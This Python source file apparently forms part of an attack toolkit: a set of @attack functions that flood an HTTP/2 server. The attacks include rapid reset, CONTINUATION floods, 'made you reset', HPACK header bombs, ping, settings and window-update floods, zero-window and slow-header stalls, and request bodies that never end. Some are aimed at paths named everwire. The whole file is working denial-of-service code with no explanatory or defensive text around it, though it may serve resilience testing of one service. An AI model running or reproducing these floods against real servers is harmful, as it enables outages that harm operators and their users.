"""Frames of HTTP/2."""
import asyncio

import http2
from target import attack, over_and_over


async def in_http2(target, sockets, rounds, window=65535):
    """Sends what `rounds` gives, for as long as the server takes it."""
    async def one(victim):
        await victim.send(http2.settings(window=window))
        reading = asyncio.ensure_future(victim.until_the_end())
        for data in rounds():
            await victim.send(data)
            await asyncio.sleep(0)
            if reading.done() or not target.on:
                break
        await reading
    await over_and_over(target, max(1, sockets // 10), one, protocol="h2")


@attack
async def h2_rapid_reset(target, sockets):
    def rounds():
        cancel = (8).to_bytes(4, "big")
        numbers = iter(http2.streams())
        while True:
            some = [next(numbers) for _ in range(100)]
            yield b"".join(http2.request(n) + http2.frame(http2.RST_STREAM, 0, n, cancel) for n in some)
    await in_http2(target, sockets, rounds)


@attack
async def h2_continuation_flood(target, sockets):
    def rounds():
        yield http2.frame(http2.HEADERS, 0, 1, http2.block())
        while True:
            yield http2.frame(http2.CONTINUATION, 0, 1, b"\0" + http2.text("x") + http2.text("y" * 100)) * 100
    await in_http2(target, sockets, rounds)


@attack
async def h2_empty_data(target, sockets):
    def rounds():
        yield http2.request(1, "POST", "/everwire/send", end=False)
        while True:
            yield http2.frame(http2.DATA, 0, 1) * 1000
    await in_http2(target, sockets, rounds)


@attack
async def h2_window_zero(target, sockets):
    """Asks for much, and has no room for any of it."""
    async def one(victim):
        asks = b"".join(http2.request(n, path="/client/everwire.js") for n in range(1, 257, 2))
        await victim.send(http2.settings(window=0) + asks)
        reading = asyncio.ensure_future(victim.until_the_end())
        while victim.target.on and not reading.done():
            await victim.send(http2.frame(http2.PING, 0, 0, b"12345678"))
            await asyncio.sleep(0.1)
    await over_and_over(target, sockets, one, protocol="h2")


@attack
async def h2_window_one(target, sockets):
    """Takes a byte of each answer, and then no more."""
    numbers = range(1, 257, 2)
    async def one(victim):
        asks = b"".join(http2.request(n, path="/client/everwire.js") for n in numbers)
        await victim.send(http2.settings(window=1) + asks)
        await victim.until_the_end()
    await over_and_over(target, sockets, one, protocol="h2")


@attack
async def h2_pings(target, sockets):
    def rounds():
        while True:
            yield http2.frame(http2.PING, 0, 0, b"12345678") * 1000
    await in_http2(target, sockets, rounds)


@attack
async def h2_settings(target, sockets):
    def rounds():
        while True:
            yield http2.frame(http2.SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 1000
    await in_http2(target, sockets, rounds)


@attack
async def h2_slow_header_block(target, sockets):
    async def one(victim):
        await victim.send(http2.settings() + http2.frame(http2.HEADERS, 0, 1, http2.block()))
        await victim.drip(http2.frame(http2.CONTINUATION, 0, 1, b"x" * 1000))
    await over_and_over(target, sockets, one, protocol="h2")


@attack
async def h2_made_you_reset(target, sockets):
    """Errors on each stream make the server reset it, and count it as ended."""
    def rounds():
        numbers = iter(http2.streams())
        nothing = (0).to_bytes(4, "big")
        while True:
            some = [next(numbers) for _ in range(100)]
            yield b"".join(http2.request(n) + http2.frame(http2.WINDOW_UPDATE, 0, n, nothing) for n in some)
    await in_http2(target, sockets, rounds)


@attack
async def h2_window_updates(target, sockets):
    def rounds():
        while True:
            yield http2.frame(http2.WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")) * 1000
    await in_http2(target, sockets, rounds)


@attack
async def h2_priorities(target, sockets):
    def rounds():
        numbers = iter(http2.streams())
        while True:
            yield b"".join(http2.frame(http2.PRIORITY, 0, next(numbers), b"\0\0\0\0\x10") for _ in range(1000))
    await in_http2(target, sockets, rounds)


@attack
async def h2_unknown_frames(target, sockets):
    def rounds():
        while True:
            yield http2.frame(0x77, 0, 0, b"x" * 100) * 100
    await in_http2(target, sockets, rounds)


@attack
async def h2_header_bomb(target, sockets):
    """A large field put into the table once, then named by a byte as often as fits."""
    large = b"\x40" + http2.text("x") + http2.text("y" * 250)
    def rounds():
        numbers = iter(http2.streams())
        block = http2.block() + large
        yield http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, next(numbers), block)
        while True:
            block = http2.block() + b"\xbe" * 15_000
            yield http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, next(numbers), block)
    await in_http2(target, sockets, rounds)


@attack
async def h2_bodies_never_ended(target, sockets):
    """As many streams as there may be, as much of each body as is taken."""
    async def one(victim):
        numbers = range(1, 257, 2)
        await victim.send(http2.settings() + b"".join(http2.request(n, "POST", "/everwire/send", end=False) for n in numbers))
        reading = asyncio.ensure_future(victim.until_the_end())
        for n in numbers:
            await victim.send(http2.frame(http2.DATA, 0, n, b"x" * 500))
        await reading
    await over_and_over(target, max(1, sockets // 10), one, protocol="h2")
